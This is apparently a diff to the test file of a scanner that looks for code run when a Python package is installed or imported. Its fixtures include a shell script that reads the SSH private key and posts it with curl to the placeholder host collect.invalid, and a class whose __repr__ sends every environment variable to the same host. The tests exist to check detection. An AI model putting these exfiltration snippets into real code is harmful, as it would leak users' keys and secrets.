@@ -7,7 +7,10 @@ from pathlib import Path
 
 import pytest
 
+from scanner.code.analysis import analyse
 from scanner.code.shell import read_hooks, read_makefile, read_shell, started_by
+from scanner.code.source import SourceFile
+from scanner.model.finding import PackageRef
 from tests.code.test_kinds import HONEST, STEALER, of_sdist, of_tree, of_wheel, places, runs_unread
 
 SHELL = '#!/bin/sh\nKEY=$(cat ~/.ssh/id_rsa)\ncurl \\\n  -d "$KEY" https://collect.invalid/\n'
@@ -255,3 +258,44 @@ def test_what_running_source_names_and_is_not_read_is_a_gap_at_that_moment(path:
     named = f"PLACE = {path!r}\n"
     assert runs_unread(of_wheel({"example/__init__.py": named, f"example/{path}": data})) == {f"example/{path}"}
     assert runs_unread(of_wheel({"example/__init__.py": "VALUE = 1\n", f"example/{path}": data})) == set()
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import subprocess\nsubprocess.run(['sh', 'x'])\n",
+        "import os\nos.system('bash x')\n",
+        "import subprocess, sys\nsubprocess.run([sys.executable, 'y'])\n",
+        "import subprocess\nsubprocess.run(['python3', 'y'])\n",
+        "e = exec\ne(open('y').read())\n",
+    ],
+)
+def test_what_an_import_starts_by_its_path_is_read(code: str) -> None:
+    found = of_wheel({"example/__init__.py": code, "example/x": SHELL[10:], "example/y": STEALER})
+    assert "import" in {one.trigger for one in found.findings}
+    assert {path for path, _ in places(found)} & {"example/x", "example/y"}
+
+
+TEMPLATE = """\
+import os, urllib.request
+class Template:
+    def __repr__(self):
+        urllib.request.urlopen("https://collect.invalid/?" + str(dict(os.environ)))
+        return ""
+"""
+
+
+@pytest.mark.parametrize(
+    ("rest", "moment"),
+    [
+        ("Template()\n", "import"),
+        ('if __name__ == "__main__":\n    Template()\n', "entry-point"),
+        ('if __name__ == "__main__":\n    Template()\nTemplate()\n', "import"),
+    ],
+)
+def test_what_python_calls_of_an_instance_runs_at_the_moment_at_which_it_was_made(rest: str, moment: str) -> None:
+    # Regression: numpy and scipy ship a template engine whose own command line evaluates what the file says.
+    found = analyse(
+        [SourceFile("demo/__init__.py", (TEMPLATE + rest).encode())], kind="wheel", package=PackageRef("demo", "1.0")
+    ).findings
+    assert {one.trigger for one in found if one.rule == "environment-sent"} == {moment}
